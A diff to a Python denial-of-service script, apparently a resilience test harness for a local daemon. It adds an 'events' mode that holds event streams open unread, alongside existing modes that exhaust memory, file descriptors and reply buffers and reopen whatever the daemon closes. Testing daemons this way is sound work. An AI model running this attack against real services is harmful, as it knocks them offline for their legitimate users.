@@ -5,6 +5,7 @@ Run as an unprivileged user. Modes:
   bigreq N    N connections, each sending a 31 MiB request without finishing it
   fds N       N connections held open (more than the daemon's 1,024 default descriptors)
   noread N NAME  N clients asking for NAME's XML and never reading the reply
+  events N    N event streams held open (never read)
 Writes "ready" to READY_FILE once the attack is in place, then keeps it up
 (re-opening what the daemon closes) until killed or DURATION seconds pass.
 """
@@ -31,6 +32,9 @@ def start(s):
     try:
         if mode == "bigreq":
             s.send(b'{"op":"ping","pad":"' + b"x" * 65536)
+        elif mode == "events":  # an event stream, held open
+            s.send(b'{"op":"events"}')
+            s.shutdown(socket.SHUT_WR)
         elif mode == "noread":
             s.send(('{"op":"dumpxml","name":"%s"}' % name).encode())
             s.shutdown(socket.SHUT_WR)
@@ -68,7 +72,7 @@ while time.monotonic() < deadline:
             sent[s] += 65536
             alive.append(s)
         conns = alive
-    elif mode == "fds":
+    elif mode in ("fds", "events"):
         alive = []
         for s in conns:  # the daemon closes what it refuses: open another
             try:
